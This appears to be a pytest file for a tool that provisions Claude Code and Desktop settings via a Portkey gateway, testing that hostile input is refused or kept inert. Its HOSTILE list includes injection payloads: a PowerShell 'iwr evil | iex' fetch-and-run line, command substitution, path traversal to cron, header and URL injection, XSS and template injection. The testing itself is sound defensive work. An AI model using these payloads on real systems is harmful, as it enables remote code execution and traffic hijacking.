"""Hostile text in fleet file, profiles, file names and gateway replies: refused, or harmless (T4-T6)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from provisioner import assets, project
from provisioner.errors import ArtifactError, InputError
from provisioner.policy.load import resolve_all
from provisioner.report import profiles as profiles_report
from provisioner.roster import RosterOptions, read_roster
from tests.render.samples import code_headers, desktop_headers
from tests.render.windows_samples import body
from tests.support import gateway_portkey as simulator
from tests.support.gateway_portkey import PortkeySimulator
from tests.support.hostile_rollout import (
    BASE_URL,
    EXPECTED,
    PLAIN,
    SCRIPTS,
    TODAY,
    check_names,
    covered,
    fleet,
    rendered,
    roster_of,
)
from tests.support.pilot import Pilot, Ran
from tests.support.readback import (
    Page,
    cells,
    check_run,
    check_terminal,
    on_devices,
    strict_json,
)

HOSTILE = [
    "x\r\nx-portkey-config: pc-admin",
    "x\nANTHROPIC_BASE_URL=https://evil",
    '","team":"ceo',
    "</string><key>inferenceGatewayBaseUrl</key><string>https://evil",
    "'; iwr evil | iex; '",
    "$(id)`id`%PATH%",
    "\u2019; calc; \u2018",
    "../../etc/cron.d/x",
    "\x1b[2J\x1b]0;pwned\x07",
    "\u202egnp.exe",
    "=HYPERLINK(1)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}}{% import os %}",
    "x\u2028y\u0085z",
]
FLEET_PLACES = [
    "tenant = {}",
    "profile = {}",
    "mdm = [{}]",
    "platforms = [{}]",
    "[gateway]\nproduct = {}",
    "[keys]\nscope = {}",
    "[claude_code]\nminimum_version = {}",
    "[claude_desktop]\nminimum_version = {}",
    "[claude_desktop]\norganization_uuid = {}",
    "[roster]\nmetadata = [{}]",
    "[roster]\ndomains = [{}]",
    "[[override]]\nteam = {}\nprofile = 'standard'",
    "[[override]]\nenv = {}\nprofile = 'standard'",
    "[[override]]\nteam = 'a'\nprofile = {}",
    "{} = 1",
    "[{}]\nx = 1",
]


def toml(text: str) -> str:
    """Return a TOML string; JSON's escapes are TOML's, but for the surrogates that none of these has."""
    return json.dumps(text).replace("\x7f", "\\u007f")


@pytest.mark.covers("T4", "T5", "T6", "T13", "T15")
@pytest.mark.parametrize("place", FLEET_PLACES)
def test_hostile_text_in_the_fleet_file_is_refused(pilot: Pilot, place: str) -> None:
    for text in HOSTILE:
        (pilot.folder / "provision.toml").write_text(place.format(toml(text)))
        ran = pilot.main_job()
        assert ran.code == 2, text
        check_run(ran)
        assert "provision.toml" in ran.err
        assert not (pilot.state / "ledger.db").exists()
        assert not pilot.dist.exists()


PROFILE_PLACES = [
    "[models]\nopus = {}",
    "[routing]\nprovider = {}",
    "[routing.override_params]\nmodel = {}",
    "[budget]\nusd = 5\nreset = {}",
    "[claude_code]\ncompanyAnnouncements = [{}]",
    "[claude_code.env]\nFOO = {}",
    "[claude_code.env]\n{} = 'x'",
    "[claude_code]\n{} = 'x'",
    "[claude_desktop]\norganizationInstructions = {}",
    "[claude_desktop]\n{} = 'x'",
    "[claude_desktop.banner]\ntext = {}",
]


@pytest.mark.covers("T4", "T5", "T6", "T25", "T31")
@pytest.mark.parametrize("place", PROFILE_PLACES)
@pytest.mark.parametrize("text", [*HOSTILE, "a'b\"c\\d<e>&;|$f`%g", "plain"], ids=range(len(HOSTILE) + 2))
def test_hostile_text_in_a_profile_is_refused_or_stays_in_its_place(place: str, text: str) -> None:
    profile = f'extends = "standard"\n{place.format(toml(text))}\n'
    of = fleet()
    try:
        resolved = resolve_all(
            ["own"], assets.profile_texts() | {"own": profile}, project.profile_labels(of)
        )["own"]
        roster = read_roster(
            roster_of(("a@acme.com", "plain", "prod")), file="org.csv", today=TODAY, options=RosterOptions()
        )
        files = rendered(covered(roster, of, {"standard": resolved.policy}), of)
    except (InputError, ArtifactError) as error:
        told = map(str, error.problems) if isinstance(error, InputError) else [error.message]
        for line in told:
            check_terminal(line)
        assert text != "plain" or not place.startswith(
            ("[models]", "[claude_code]\ncomp", "[claude_desktop]\norg")
        )
        return
    check_terminal(profiles_report.text(resolved, 80))
    check_names(files)
    ways = on_devices(files, "plain-prod")
    [name] = {code["env"]["ANTHROPIC_CUSTOM_HEADERS"].partition(":")[0] for code, _ in ways.values()}
    assert name == "x-portkey-metadata"
    for way, (code, desktop) in ways.items():
        assert len(code_headers(code)) == len(desktop_headers(desktop)) == 1
        assert code["env"]["ANTHROPIC_BASE_URL"] == desktop["inferenceGatewayBaseUrl"] == BASE_URL
        before = EXPECTED[way]
        added = {*code, *code["env"], *desktop} - {
            *before[0],
            *before[0]["env"],
            *before[1],
            HEADERS,
            DESKTOP_HEADERS,
        }
        assert added <= {
            text,
            "x",
            "FOO",
            "companyAnnouncements",
            "organizationInstructions",
            "banner",
            "env",
        }
        if not place.startswith(("[routing", "[budget")):
            assert text in strings(code, desktop), way
    for name, constant in SCRIPTS.items():
        assert body(files[f"plain-prod/intune/windows/{name}.ps1"]) == constant
    page = Page(files["index.html"])
    page.check()
    assert page.elements == Page(PLAIN[True]["index.html"]).elements


HEADERS, DESKTOP_HEADERS = "ANTHROPIC_CUSTOM_HEADERS", "inferenceCustomHeaders"


def strings(*trees: Any) -> set[str]:
    """Return every text in trees, names too, and in the JSON that Desktop's texts hold."""
    seen: set[str] = set()
    for tree in trees:
        if isinstance(tree, dict):
            seen |= set(tree) | strings(*tree.values())
        elif isinstance(tree, list):
            seen |= strings(*tree)
        elif isinstance(tree, str):
            seen.add(tree)
            if tree.startswith(("{", "[")):
                try:
                    seen |= strings(json.loads(tree))
                except ValueError:
                    continue
    return seen


@pytest.mark.covers("T12", "T15", "T31")
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_description_and_file_name_do_not_reach_the_terminal(pilot: Pilot, text: str) -> None:
    folder = pilot.folder / "profiles"
    folder.mkdir()
    (folder / "own.toml").write_text(f'extends = "standard"\ndescription = {toml(text)}\n')
    name = f"{text.replace('/', '')}.csv"
    (pilot.folder / name).write_text("email,team,env\nnot an address,a,b\n")
    lines = [["profiles", "list"], ["profiles", "show", "own"], ["--roster", name], ["--roster", f"no{name}"]]
    lines += [
        ["roster", "check", name],
        ["apply", name],
        ["profiles", "show", text],
        ["--fleet", name, "--roster", name],
    ]
    lines += [[text], ["--roster", "org.csv", text], [f"--{text}"]]
    for line in lines:
        check_run(pilot.run(*line))
    (pilot.folder / name).write_text("email,team,env\na@acme.com,a,b\n")
    check_run(pilot.run("roster", "check", name))


@pytest.fixture
def gateway(pilot: Pilot, monkeypatch: pytest.MonkeyPatch) -> Iterator[PortkeySimulator]:
    """A gateway that the fleet file names, after a first run."""
    monkeypatch.setenv("GATEWAY_ADMIN", simulator.ADMIN_KEY)
    with simulator.simulating() as simulated:
        (pilot.folder / "provision.toml").write_text(
            f'mdm = ["files"]\n[gateway]\nproduct = "portkey"\nurl = "{simulated.url}"\n'
            'admin_key = { env = "GATEWAY_ADMIN" }\n'
        )
        pilot.write_roster("email,team,env\na@acme.com,Plain,prod\n")
        assert pilot.main_job("--yes").code == 0
        yield simulated


def looks(pilot: Pilot, *lines: tuple[str, ...]) -> list[Ran]:
    """Run commands whose output must be inert, JSON must be JSON, and pages must be pages."""
    runs = []
    for line in lines:
        ran = pilot.run(*line)
        check_run(ran)
        if "json" in line and ran.out:
            assert ran.out.isascii()
            strict_json(ran.out)
        runs.append(ran)
    return runs


DRIFT = (("drift",), ("drift", "--format", "json"), ("drift", "--html", "drift.html"))


@pytest.mark.covers("T5", "T12", "T15")
def test_hostile_names_at_the_gateway(pilot: Pilot, gateway: PortkeySimulator) -> None:
    """FOREIGN keys and configs, and ours with hostile text put in behind our back."""
    assert "no drift" in looks(pilot, *DRIFT)[0].out.lower()
    [ours] = gateway.keys.values()
    [config] = gateway.configs.values()
    for text in HOSTILE:
        gateway._create_key({"name": f"claude-desktop-{text}", "description": text, "scopes": [text]})
        gateway.add_config(f"desktop-{text}", {"provider": text, text: [text]})
    ours["defaults"] = {
        **ours["defaults"],
        "metadata": dict(zip(("tenant", "team", "env"), HOSTILE, strict=False)),
    }
    ours["description"] = "; ".join(HOSTILE)
    ours["rotation_policy"] = dict(zip(HOSTILE, HOSTILE, strict=True))
    ours["rate_limits"] = [{"type": text, "unit": text, "value": 1} for text in HOSTILE]
    config["config"] = {"provider": HOSTILE[0], **{text: {text: text} for text in HOSTILE}}
    table, told, _ = looks(pilot, *DRIFT)
    assert (table.code, told.code) == (4, 4)
    findings = told.json["findings"]
    foreign = {finding["subject"] for finding in findings if finding["code"] == "FOREIGN"}
    assert foreign == {f"{prefix}{text}" for text in HOSTILE for prefix in ("claude-desktop-", "desktop-")}
    changed = [finding for finding in findings if finding["code"] == "CHANGED"]
    assert len(changed) > len(HOSTILE)
    page = Page((pilot.folder / "drift.html").read_bytes())
    page.check()
    check_terminal(page.text)
    assert set(page.tags) <= CLEAN_TAGS
    looks(pilot, ("plan", "--roster", "org.csv"), ("plan", "--roster", "org.csv", "--format", "json"))


CLEAN_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer"),
    *("p", "h1", "h2", "h3", "dl", "div", "dt", "dd", "code", "table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.covers("T5", "T12", "T15")
def test_hostile_answers_of_the_gateway(pilot: Pilot, gateway: PortkeySimulator) -> None:
    """Refusals of a create, of a probe and of a listing; they stand in reports, manifest and page."""
    teams = "".join(f"p{n}@acme.com,Team {n},prod\n" for n in range(2 * len(HOSTILE)))
    pilot.write_roster(f"email,team,env\n{teams}")
    refusals = [json.dumps({"error": {"message": text, "code": text}}).encode() for text in HOSTILE]
    for refusal in refusals:
        gateway.fault("POST", "/v1/configs", simulator.answering(400, refusal))
        gateway.fault("POST", "/v1/messages", simulator.answering(400, refusal), times=4)
    first, again = looks(
        pilot, ("--roster", "org.csv", "--yes", "--format", "json"), ("--roster", "org.csv", "--yes")
    )
    assert first.code == 3
    assert sum("refused" in failure["why"] for failure in first.json["failures"]) == len(HOSTILE)
    assert [a["state"] for a in first.json["assignments"]].count("HOLD") == len(HOSTILE)
    files = pilot.files()
    page = Page(files["index.html"])
    page.check()
    check_terminal(page.text)
    strict_json(files["manifest.json"])
    assert all(cell.isprintable() for row in cells(files["uploads.csv"]) for cell in row)
    for refusal in refusals:
        gateway.fault("GET", "/v1/api-keys", simulator.answering(403, refusal))
    assert {ran.code for ran in looks(pilot, *(("drift",) for _ in refusals))} == {1}
    assert again.code == 0, "the refusals were over"
